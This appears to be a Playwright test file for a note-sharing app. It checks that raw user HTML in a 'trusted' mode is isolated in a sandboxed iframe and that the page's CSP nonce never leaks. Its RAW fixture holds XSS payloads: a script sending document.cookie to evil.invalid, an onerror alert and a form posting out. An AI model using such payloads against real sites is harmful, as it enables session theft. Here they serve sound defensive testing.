import type { Page } from "@playwright/test";
import { expect, issueKey, test } from "./browser-test";
import { createTestDatabase, type TestDatabase } from "../../lib/test/database";
import { guardPage } from "./page-guard";
import { startServer, type ServerProcess } from "../support/server-process";
import { npmScript } from "../support/fixtures";
import { apiFor } from "../support/api-for";
import { startRemoteHost } from "../support/remote-host";
import { timeouts } from "../support/timeouts";

// HTML_MODE=trusted (keyed HTML kept as written, opt-in) needs a server of its own with that setting.

/**
 * `<style` where it is no element, and real <style> elements the old text replacement missed or
 * treated alike. Stylesheets, scripts and @imports point at another site and must never be fetched;
 * the two images only after the reader's click.
 */
const nonceBait = (remote: string) =>
  [
    `<link rel=stylesheet href="${remote}/link.css" <style >`,
    `<script src="${remote}/script.js" <style ></script>`,
    "<p id=t title='<style >'>t</p>",
    "<!-- <style >#t { color: rgb(255, 0, 0) }</style> -->",
    "<textarea><style >#t { color: rgb(255, 0, 0) }</style></textarea>",
    "<template><style >#t { color: rgb(255, 0, 0) }</style></template>",
    "<STYLE>#upper { color: rgb(0, 128, 0) }</STYLE><p id=upper>upper</p>",
    '<style media="all" data-x="<style >">#attrs { color: rgb(0, 128, 0) }</style><p id=attrs>attrs</p>',
    `<style>@import url(${remote}/import.css); body { background: url(${remote}/background.svg) }</style>`,
    `<img src="${remote}/image.svg" alt="remote">`,
  ].join("\n");

const RAW = [
  '<h1 style="color: rebeccapurple; position: sticky">Raw heading</h1>',
  "<p id=probe>as written</p>",
  "<style>#probe { color: rgb(0, 128, 0) }</style>",
  "<script>parent.document.title = 'pwned'; fetch('http://evil.invalid/?' + document.cookie)</script>",
  "<img src=x onerror=\"alert('onerror')\">",
  '<form action="http://evil.invalid/form"><input name=q></form>',
].join("\n");

/**
 * Resolves once the trusted frame's document has loaded. Its load event waits for everything its
 * markup and its styles fetch (stylesheets, imports, scripts, images, background images) and comes
 * after its scripts would have run and its images' load and error events fired: whatever the note
 * could set off from inside the frame has happened, or been refused, by then.
 */
async function frameLoaded(page: Page) {
  const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
  expect(frame).toBeDefined();
  await frame?.waitForLoadState("load");
}

test.describe("trusted mode", () => {
  // One server in trusted mode for these tests, so they run one after the other.
  test.describe.configure({ mode: "serial" });
  let database: TestDatabase | undefined;
  let server: ServerProcess | undefined;
  let key = "";
  let base = "";
  const create = (body: Record<string, unknown>, apiKey?: string) =>
    apiFor(base).createId(body, apiKey ? { "x-api-key": apiKey } : {});
  const read = async (id: string) => (await apiFor(base).read(id)).json;

  test.beforeAll(async () => {
    test.setTimeout(timeouts.serverTest);
    database = await createTestDatabase("trusted_html");
    server = await startServer({ env: { DATABASE_URL: database.url, HTML_MODE: "trusted" } });
    base = server.url;
    key = (await npmScript("keys", ["issue", "--label", "t"], database.url)).at(-1) ?? "";
  });

  test.afterAll(async () => {
    await server?.stop();
    await database?.drop();
  });

  test("keyed HTML shows as written in a sandbox that cannot reach the page", async ({ page }) => {
    // The API's html stays sanitized; raw_html carries the HTML as written.
    const checked = await create({ content: RAW, format: "html", ttl: "1h" }, key);
    const viaApi = await read(checked);
    expect(viaApi.html).toMatch(
      /^<h1 style="color:rebeccapurple">Raw heading<\/h1>\n<p id="user-content-probe">as written<\/p>\n\s*<img>\s*$/,
    );
    expect(viaApi.raw_html).toBe(RAW);
    // Without a key, and for pages, nothing is kept.
    expect(await read(await create({ content: RAW, format: "html", ttl: "1h" }))).not.toHaveProperty(
      "raw_html",
    );
    const paged = await read(await create({ pages: [{ content: RAW, format: "html" }], ttl: "1h" }, key));
    expect(paged).not.toHaveProperty("raw_html");

    const id = await create({ content: RAW, format: "html", ttl: "1h", burn_after: 1 }, key);
    await page.context().addCookies([{ name: "secret", value: "parent-cookie", url: base }]);
    const guard = guardPage(page, base);
    await page.goto(`${base}/${id}`);
    await page.getByRole("button", { name: "Reveal note" }).click();

    const frameElement = page.locator("iframe.trusted-frame");
    await expect(frameElement).toHaveAttribute("sandbox", "");
    const frame = page.frameLocator("iframe.trusted-frame");
    await expect(frame.getByRole("heading", { name: "Raw heading" })).toHaveCSS("color", "rgb(102, 51, 153)");
    await expect(frame.locator("#probe")).toHaveText("as written");
    await expect(frame.locator("#probe")).toHaveCSS("color", "rgb(0, 128, 0)");
    await expect(frame.locator("form")).toHaveCount(1);

    // From inside the frame: an opaque origin, so the parent's DOM and the site's cookies are out of reach.
    const inside = page.frames().find((candidate) => candidate !== page.mainFrame());
    const probe = await inside?.evaluate(() => {
      const attempt = (read: () => unknown) => {
        try {
          return String(read());
        } catch (error) {
          return (error as Error).name;
        }
      };
      return {
        origin: window.origin,
        parentDom: attempt(() => window.parent.document.title),
        cookie: attempt(() => document.cookie),
        storage: attempt(() => window.localStorage.length),
      };
    });
    expect(probe).toEqual({
      origin: "null",
      parentDom: "SecurityError",
      cookie: "SecurityError",
      storage: "SecurityError",
    });
    await frameLoaded(page);
    expect(await page.title()).not.toBe("pwned");
    expect(guard.dialogs).toEqual([]);
    expect(guard.foreignRequests).toEqual([]);

    await page.getByRole("button", { name: "Show the sanitized version" }).click();
    await expect(page.getByRole("article").getByRole("heading", { name: "Raw heading" })).toBeVisible();
    await expect(page.getByRole("article").locator("script, form, img[src]")).toHaveCount(0);
  });

  test("the page's nonce never reaches the frame, which fetches nothing but allowed images", async ({
    page,
  }) => {
    const remote = await startRemoteHost();
    try {
      const id = await create({ content: nonceBait(remote.origin), format: "html", ttl: "1h" }, key);
      const guard = guardPage(page, base);
      // Chromium may report a request that its CSP then refuses before anything leaves the browser.
      const refused: string[] = [];
      page.on("requestfailed", (request) => {
        if (request.failure()?.errorText === "csp") refused.push(request.url());
      });
      const response = await page.goto(`${base}/${id}`);
      const pageNonce = /script-src [^;]*'nonce-([^']+)'/.exec(
        response?.headers()["content-security-policy"] ?? "",
      )?.[1];
      expect(pageNonce).toBeTruthy();

      const frame = page.frameLocator("iframe.trusted-frame");
      await expect(frame.locator("#attrs")).toHaveCSS("color", "rgb(0, 128, 0)");
      await expect(frame.locator("#upper")).toHaveCSS("color", "rgb(0, 128, 0)");
      await expect(frame.locator("#t")).toHaveAttribute("title", "<style >");
      await expect(frame.locator("#t")).toHaveCSS("color", "rgb(0, 0, 0)");
      const srcdoc = (await page.locator("iframe.trusted-frame").getAttribute("srcdoc")) ?? "";
      const inside = page.frames().find((candidate) => candidate !== page.mainFrame());
      const frameHtml = (await inside?.evaluate(() => document.documentElement.outerHTML)) ?? "";
      for (const text of [srcdoc, frameHtml]) expect(text).not.toContain(pageNonce);
      // Only the real <style> elements carry a nonce: the frame's styles-only one.
      const nonced = await page.evaluate(
        (html) =>
          [...new DOMParser().parseFromString(html, "text/html").querySelectorAll("[nonce]")].map(
            (element) => element.localName,
          ),
        srcdoc,
      );
      expect(nonced).toEqual(["style", "style", "style"]);

      await frameLoaded(page);
      expect(remote.requests).toEqual([]);
      expect(guard.foreignRequests.filter((url) => !refused.includes(url))).toEqual([]);

      await page.getByRole("button", { name: "Load images" }).click();
      await expect.poll(() => [...remote.requests].sort()).toEqual(["/background.svg", "/image.svg"]);
      // The images came from the frame's new document (its policy now lets them in): its load is the sentinel.
      await frameLoaded(page);
      expect([...remote.requests].sort()).toEqual(["/background.svg", "/image.svg"]);
    } finally {
      await remote.close();
    }
  });
});

test("default mode: keyed HTML is only ever shown sanitized", async ({ page, api }) => {
  const id = await api.createId(
    { content: RAW, format: "html", ttl: "1h", burn_after: 2 },
    { "x-api-key": await issueKey() },
  );
  expect((await api.read(id)).json).not.toHaveProperty("raw_html");
  await page.goto(`/${id}`);
  await page.getByRole("button", { name: "Reveal note" }).click();
  await expect(page.getByRole("article").getByRole("heading", { name: "Raw heading" })).toBeVisible();
  await expect(page.locator("iframe")).toHaveCount(0);
});
